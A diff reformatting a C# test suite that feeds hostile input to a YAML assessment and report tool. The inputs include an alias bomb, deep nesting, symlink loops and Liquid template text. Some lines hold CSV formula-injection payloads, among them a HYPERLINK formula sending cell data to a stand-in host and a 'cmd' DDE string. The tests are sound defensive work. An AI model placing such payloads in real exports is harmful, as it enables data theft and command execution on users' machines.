@@ -16,7 +16,9 @@ public partial class HostileInputTests
 {
     private static readonly string Corpus = Path.Combine(Wcc.Root, "tests", "fixtures", "hostile");
 
-    /// <summary>A fresh copy of the valid scaffold, and beside it the --out folder a report would be written to.</summary>
+    /// <summary>
+    /// A fresh copy of the valid scaffold, and beside it the --out folder a report would be written to.
+    /// </summary>
     private sealed class Case : IDisposable
     {
         public Case(string? overlay = null)
@@ -81,7 +83,12 @@ public partial class HostileInputTests
 
     [Theory]
     [InlineData("unclosed-bracket", "competencies/c01.yaml:5:15", "the '[' here is never closed: add ']'", 1)]
-    [InlineData("bad-indentation", "competencies/c01.yaml:6:2", "'b' is indented 1 space; line it up with 'a' on line 4 (2 spaces)", 1)]
+    [InlineData(
+        "bad-indentation",
+        "competencies/c01.yaml:6:2",
+        "'b' is indented 1 space; line it up with 'a' on line 4 (2 spaces)",
+        1
+    )]
     [InlineData("level-as-text", "competencies/c01.yaml:5:11", "'self' should be a number, found 'three'", 1)]
     [InlineData("text-as-list", "competencies/c01.yaml:5:16", "'rationale' should be text, not a list", 1)]
     [InlineData("number-as-mapping", "competencies/c01.yaml:6:35", "'value' should be a number, not a mapping", 1)]
@@ -90,22 +97,62 @@ public partial class HostileInputTests
     [InlineData("unknown-tag", "competencies/c01.yaml:7:28", "unknown evidence tag 'made-up-tag'", 1)]
     [InlineData("unknown-metric", "competencies/c01.yaml:6:7", "unknown metric 'no_such_metric'", 1)]
     [InlineData("unknown-indicator", "outcomes.yaml:6:16", "unknown indicator 'not-an-indicator'", 1)]
-    [InlineData("unknown-governance-measure", "governance/strategy.yaml:8:3", "unknown measure 'milestone'; did you mean 'milestones'?", 1)] // and 'milestones' is missing
+    [InlineData(
+        "unknown-governance-measure",
+        "governance/strategy.yaml:8:3",
+        "unknown measure 'milestone'; did you mean 'milestones'?",
+        1
+    )] // and 'milestones' is missing
     [InlineData("duplicate-key", "competencies/c01.yaml:6:5", "duplicate key 'self' (first at line 5)", 1)]
     [InlineData("level-zero", "competencies/c01.yaml:5:11", "'self' should be a whole number from 1 to 4, found 0", 1)]
     [InlineData("level-five", "competencies/c01.yaml:5:12", "'panel' should be a whole number from 1 to 4, found 5", 1)]
-    [InlineData("level-fraction", "competencies/c01.yaml:5:15", "'lastYear' should be a whole number from 1 to 4, found 2.5", 1)]
-    [InlineData("metric-out-of-range", "competencies/c01.yaml:6:27", "metric 'stakeholder_survey' is 7.5, outside its range 0 to 6", 1)]
-    [InlineData("duplicate-figure-id", "assessment.yaml:10:5", "figure 'part' is used more than once (first at line 9)", 1)] // the figure-sum check must not throw on it
-    [InlineData("document-outside", "assessment.yaml:9:15", "a source document is named by its file name, not a path outside the assessment", 1)]
+    [InlineData(
+        "level-fraction",
+        "competencies/c01.yaml:5:15",
+        "'lastYear' should be a whole number from 1 to 4, found 2.5",
+        1
+    )]
+    [InlineData(
+        "metric-out-of-range",
+        "competencies/c01.yaml:6:27",
+        "metric 'stakeholder_survey' is 7.5, outside its range 0 to 6",
+        1
+    )]
+    [InlineData(
+        "duplicate-figure-id",
+        "assessment.yaml:10:5",
+        "figure 'part' is used more than once (first at line 9)",
+        1
+    )] // the figure-sum check must not throw on it
+    [InlineData(
+        "document-outside",
+        "assessment.yaml:9:15",
+        "a source document is named by its file name, not a path outside the assessment",
+        1
+    )]
     [InlineData("empty-file", "competencies/c01.yaml:1:1", "the file is empty", 1)]
     [InlineData("only-a-comment", "competencies/c01.yaml:1:1", "the file is empty", 1)]
-    [InlineData("top-level-scalar", "competencies/c01.yaml:2:1", "a competency file should be a mapping of keys to values, not a single value", 1)]
-    [InlineData("top-level-list", "outcomes.yaml:2:1", "outcomes.yaml should be a mapping of keys to values, not a list", 1)]
+    [InlineData(
+        "top-level-scalar",
+        "competencies/c01.yaml:2:1",
+        "a competency file should be a mapping of keys to values, not a single value",
+        1
+    )]
+    [InlineData(
+        "top-level-list",
+        "outcomes.yaml:2:1",
+        "outcomes.yaml should be a mapping of keys to values, not a list",
+        1
+    )]
     [InlineData("second-document", "governance/board.yaml:10:1", "more than one YAML document", 1)]
     [InlineData("list-as-key", "competencies/c01.yaml:7:3", "a key must be a single value, not a list", 1)]
     [InlineData("mapping-as-key", "competencies/c01.yaml:7:1", "a key must be a single value, not a mapping", 1)]
-    public void A_checked_in_hostile_case_is_refused_at_its_place(string name, string location, string message, int errors)
+    public void A_checked_in_hostile_case_is_refused_at_its_place(
+        string name,
+        string location,
+        string message,
+        int errors
+    )
     {
         using var c = new Case(name);
         AssertRefused(c, location, message, errors);
@@ -114,8 +161,10 @@ public partial class HostileInputTests
     [Fact]
     public void Every_checked_in_case_is_tested()
     {
-        var tested = typeof(HostileInputTests).GetMethod(nameof(A_checked_in_hostile_case_is_refused_at_its_place))!
-            .GetCustomAttributes(typeof(InlineDataAttribute), false).Cast<InlineDataAttribute>()
+        var tested = typeof(HostileInputTests)
+            .GetMethod(nameof(A_checked_in_hostile_case_is_refused_at_its_place))!
+            .GetCustomAttributes(typeof(InlineDataAttribute), false)
+            .Cast<InlineDataAttribute>()
             .Select(a => (string)a.GetData(null!).First()[0])
             .Concat(["html-in-text", "liquid-in-text", "formula-in-text"]);
         var present = Directory.GetDirectories(Corpus).Select(Path.GetFileName).OfType<string>();
@@ -129,7 +178,12 @@ public partial class HostileInputTests
     {
         using var c = new Case();
         c.Replace("competencies/c01.yaml", "\n  b:\n", "\n\tb:\n");
-        AssertRefused(c, "competencies/c01.yaml:17:1", "a tab is used to indent this line; YAML allows only spaces: indent with spaces", 1);
+        AssertRefused(
+            c,
+            "competencies/c01.yaml:17:1",
+            "a tab is used to indent this line; YAML allows only spaces: indent with spaces",
+            1
+        );
     }
 
     [Fact]
@@ -145,7 +199,14 @@ public partial class HostileInputTests
     public void Latin1_text_is_refused_at_the_byte_that_is_not_utf8()
     {
         using var c = new Case();
-        c.Write("competencies/c01.yaml", [.. "competency: c01\nmeasures:\n  a:\n    rationale: caf"u8, 0xE9, .. "\n  b: {evidence: []}\n  c: {evidence: []}\n"u8]);
+        c.Write(
+            "competencies/c01.yaml",
+            [
+                .. "competency: c01\nmeasures:\n  a:\n    rationale: caf"u8,
+                0xE9,
+                .. "\n  b: {evidence: []}\n  c: {evidence: []}\n"u8,
+            ]
+        );
         AssertRefused(c, "competencies/c01.yaml:4:19", "the file is not UTF-8 (byte 0xE9 at offset 49)", 1);
     }
 
@@ -153,7 +214,10 @@ public partial class HostileInputTests
     public void A_lone_0xFF_byte_is_refused_at_its_place()
     {
         using var c = new Case();
-        c.Write("governance/finance.yaml", [.. "area: finance\n"u8, 0xFF, .. File.ReadAllBytes(c.PathOf("governance/finance.yaml"))]);
+        c.Write(
+            "governance/finance.yaml",
+            [.. "area: finance\n"u8, 0xFF, .. File.ReadAllBytes(c.PathOf("governance/finance.yaml"))]
+        );
         AssertRefused(c, "governance/finance.yaml:2:1", "the file is not UTF-8 (byte 0xFF at offset 14)", 1);
     }
 
@@ -182,7 +246,10 @@ public partial class HostileInputTests
         clock.Stop();
         Assert.Equal(1, code);
         Assert.Contains($"{c.Folder}/competencies/c01.yaml:1:1: error: file is 50.0 MB; the limit is 2 MB", output);
-        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(1), $"took {clock.Elapsed.TotalMilliseconds:0} ms: the file was read, not refused by size");
+        Assert.True(
+            clock.Elapsed < TimeSpan.FromSeconds(1),
+            $"took {clock.Elapsed.TotalMilliseconds:0} ms: the file was read, not refused by size"
+        );
         AssertRefused(c, "competencies/c01.yaml:1:1", "the limit is 2 MB", 1);
     }
 
@@ -194,7 +261,13 @@ public partial class HostileInputTests
     public void Ten_thousand_levels_of_flow_nesting_are_refused_by_depth(string open, string close, string location)
     {
         using var c = new Case();
-        c.Write("competencies/c01.yaml", "competency: c01\nmeasures: " + string.Concat(Enumerable.Repeat(open, 10_000)) + string.Concat(Enumerable.Repeat(close, 10_000)) + "\n");
+        c.Write(
+            "competencies/c01.yaml",
+            "competency: c01\nmeasures: "
+                + string.Concat(Enumerable.Repeat(open, 10_000))
+                + string.Concat(Enumerable.Repeat(close, 10_000))
+                + "\n"
+        );
         AssertRefused(c, location, "nesting is deeper than 64 levels", 1);
     }
 
@@ -202,7 +275,10 @@ public partial class HostileInputTests
     public void Ten_thousand_levels_of_block_lists_are_refused_by_depth()
     {
         using var c = new Case();
-        c.Write("competencies/c01.yaml", "competency: c01\nmeasures:\n" + string.Concat(Enumerable.Repeat("- ", 10_000)) + "x\n");
+        c.Write(
+            "competencies/c01.yaml",
+            "competency: c01\nmeasures:\n" + string.Concat(Enumerable.Repeat("- ", 10_000)) + "x\n"
+        );
         AssertRefused(c, "competencies/c01.yaml:3:127", "nesting is deeper than 64 levels", 1);
     }
 
@@ -225,7 +301,10 @@ public partial class HostileInputTests
     public void A_billion_laughs_alias_bomb_is_refused_without_expanding_it()
     {
         using var c = new Case();
-        var bomb = new StringBuilder("competency: c01\nmeasures:\n  a: {evidence: []}\n  b: {evidence: []}\n  c: {evidence: []}\nrecommendations:\n");
+        var bomb = new StringBuilder(
+            "competency: c01\nmeasures:\n  a: {evidence: []}\n  b: {evidence: []}\n  c: {evidence: "
+                + "[]}\nrecommendations:\n"
+        );
         bomb.Append("  - &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
         for (var level = 1; level <= 9; level++)
         {
@@ -237,7 +316,8 @@ public partial class HostileInputTests
         var output = AssertRefused(c, "competencies/c01.yaml:8:10", "aliases (*l0) are not accepted", errors: null);
 
         // A capped list of aliases, never one finding per expanded node (10^10).
-        Assert.InRange(Findings(output).Count, 1, YamlTreeReader.MaxAliasFindings + 1 + 10); // + one per list item of the wrong shape
+        // + one per list item of the wrong shape
+        Assert.InRange(Findings(output).Count, 1, YamlTreeReader.MaxAliasFindings + 1 + 10);
         Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed.TotalSeconds:0.0} s");
     }
 
@@ -288,7 +368,8 @@ public partial class HostileInputTests
     [InlineData("competencies/c02.yaml")] // c01 -> c02 -> c01
     public void A_loop_of_symlinks_is_refused_rather_than_followed_for_ever(string target)
     {
-        // Followed without a limit, a loop overflows the stack, which kills the process: no catch turns that into a finding.
+        // Followed without a limit, a loop overflows the stack, which kills the process: no catch turns that into a
+        // finding.
         using var c = new Case();
         c.LinkTo("competencies/c01.yaml", c.PathOf(target));
         if (target != "competencies/c01.yaml")
@@ -374,7 +455,10 @@ public partial class HostileInputTests
         // The Markdown report escapes a pipe, so a table row keeps its columns.
         foreach (var (text, pipe) in new[] { (html, "|"), (markdown, "\\|") })
         {
-            Assert.Contains("{{ Organisation }} {% for g in Gaps %}LOOPED{% endfor %} {{ 7 " + pipe + " plus: 1 }}", text);
+            Assert.Contains(
+                "{{ Organisation }} {% for g in Gaps %}LOOPED{% endfor %} {{ 7 " + pipe + " plus: 1 }}",
+                text
+            );
             Assert.Contains("{% assign x = 'EVALUATED' %}{{ x }} {% include 'report.css' %}", text);
             Assert.Equal(Count(text, "{% for g in Gaps %}LOOPED"), Count(text, "LOOPED"));
             Assert.Equal(Count(text, "'EVALUATED'"), Count(text, "EVALUATED"));
@@ -386,7 +470,11 @@ public partial class HostileInputTests
     {
         using var c = new Case("formula-in-text");
         var (html, markdown, csv) = RenderValid(c);
-        Assert.Contains("=HYPERLINK(&quot;https://example.invalid/?leak=&quot;&amp;A1,&quot;click&quot;) +cmd|' /C calc'!A0 @SUM(1+1)", html);
+        Assert.Contains(
+            "=HYPERLINK(&quot;https://example.invalid/?leak=&quot;&amp;A1,&quot;click&quot;) +cmd|' /C calc'!A0 "
+                + "@SUM(1+1)",
+            html
+        );
         Assert.Contains("@SUM(1+1)*cmd|' /C calc'!A0", html);
         Assert.Contains("=HYPERLINK(", markdown);
         Assert.Contains("@SUM(1+1)*cmd", markdown);
@@ -394,11 +482,28 @@ public partial class HostileInputTests
         // Rationale and commentary are not scorecard columns, so the CSV is checked whole and Csv.Cell directly.
         foreach (var cell in CsvCells(csv))
         {
-            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r', $"scorecard.csv cell starts a formula: {cell}");
-            Assert.False(cell.StartsWith('-') && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), $"scorecard.csv cell starts a formula: {cell}");
+            Assert.False(
+                cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r',
+                $"scorecard.csv cell starts a formula: {cell}"
+            );
+            Assert.False(
+                cell.StartsWith('-')
+                    && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _),
+                $"scorecard.csv cell starts a formula: {cell}"
+            );
         }
 
-        foreach (var hostile in new[] { "=HYPERLINK(\"https://example.invalid\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1" })
+        foreach (
+            var hostile in new[]
+            {
+                "=HYPERLINK(\"https://example.invalid\",\"x\")",
+                "+cmd|' /C calc'!A0",
+                "@SUM(1+1)",
+                "-2+3+cmd|' /C calc'!A0",
+                "\t=1+1",
+                "\r=1+1",
+            }
+        )
         {
             var cell = CsvCells(Csv.Line([hostile])).Single();
             Assert.Equal("'" + hostile, cell);
@@ -434,8 +539,13 @@ public partial class HostileInputTests
         var (code, output, error) = Wcc.Run("validate", c.Folder);
         Assert.True(code == 1, $"validate exited {code}\n{output}{error}");
         AssertNoStackTrace(output, error);
-        Assert.True(Findings(output).Any(f => f.StartsWith(expected, StringComparison.Ordinal) && f.Contains(message, StringComparison.Ordinal)),
-            $"expected '{expected}…{message}' in:\n{output}");
+        Assert.True(
+            Findings(output)
+                .Any(f =>
+                    f.StartsWith(expected, StringComparison.Ordinal) && f.Contains(message, StringComparison.Ordinal)
+                ),
+            $"expected '{expected}…{message}' in:\n{output}"
+        );
         Assert.All(output.TrimEnd('\n').Split('\n').SkipLast(1), line => Assert.Matches(LocatedFinding(), line));
         if (errors is { } count)
         {
@@ -446,7 +556,9 @@ public partial class HostileInputTests
         var (reportCode, reportOutput, reportError) = Wcc.Run("report", c.Folder, "--out", c.Out);
         Assert.True(reportCode == 1, $"report exited {reportCode}\n{reportOutput}{reportError}");
         AssertNoStackTrace(reportOutput, reportError);
-        Assert.Contains(Findings(reportError), f => f.StartsWith(expected, StringComparison.Ordinal) && f.Contains(message, StringComparison.Ordinal));
+        Assert.Contains(Findings(reportError), f =>
+            f.StartsWith(expected, StringComparison.Ordinal) && f.Contains(message, StringComparison.Ordinal)
+        );
         Assert.All(reportError.TrimEnd('\n').Split('\n'), line => Assert.Matches(LocatedFinding(), line));
         Assert.False(Directory.Exists(c.Out), "report wrote output for invalid input");
         Assert.Empty(TemporaryFiles(c.Work));
@@ -457,16 +569,22 @@ public partial class HostileInputTests
     {
         var (code, output, error) = Wcc.Run("validate", c.Folder);
         Assert.True(code == 0, $"validate exited {code}\n{output}{error}");
-        // Valid: no errors, and no warning but the one about evidence that names no source (the scaffold declares none).
+        // Valid: no errors, and no warning but the one about evidence that names no source (the scaffold declares
+        // none).
         Assert.Contains("0 error(s), ", output);
-        Assert.All(output.Split('\n').Where(l => l.Contains(": warning: ", StringComparison.Ordinal)), l => Assert.Contains("no 'source:'", l));
+        Assert.All(output.Split('\n').Where(l => l.Contains(": warning: ", StringComparison.Ordinal)), l =>
+            Assert.Contains("no 'source:'", l)
+        );
         var (reportCode, reportOutput, reportError) = Wcc.Run("report", c.Folder, "--out", c.Out);
         Assert.True(reportCode == 0, $"report exited {reportCode}\n{reportOutput}{reportError}");
         AssertNoStackTrace(reportOutput, reportError);
         Assert.Empty(TemporaryFiles(c.Work));
         var folder = Path.Combine(c.Out, "south-staffordshire-pct-2009-10");
-        return (File.ReadAllText(Path.Combine(folder, "report.html")), File.ReadAllText(Path.Combine(folder, "report.md")),
-            File.ReadAllText(Path.Combine(folder, "scorecard.csv")));
+        return (
+            File.ReadAllText(Path.Combine(folder, "report.html")),
+            File.ReadAllText(Path.Combine(folder, "report.md")),
+            File.ReadAllText(Path.Combine(folder, "scorecard.csv"))
+        );
     }
 
     private static void AssertNoStackTrace(string output, string error)
@@ -478,9 +596,15 @@ public partial class HostileInputTests
 
     private static List<string> Findings(string text) => [.. text.Split('\n').Where(l => LocatedFinding().IsMatch(l))];
 
-    /// <summary>Half-written files would be left as name.tmp-PID; links are skipped so a link to /etc is not searched.</summary>
+    /// <summary>
+    /// Half-written files would be left as name.tmp-PID; links are skipped so a link to /etc is not searched.
+    /// </summary>
     private static string[] TemporaryFiles(string work) =>
-        Directory.GetFiles(work, "*.tmp-*", new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = FileAttributes.ReparsePoint });
+        Directory.GetFiles(
+            work,
+            "*.tmp-*",
+            new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = FileAttributes.ReparsePoint }
+        );
 
     private static int Count(string text, string part) => Regex.Count(text, Regex.Escape(part));
 
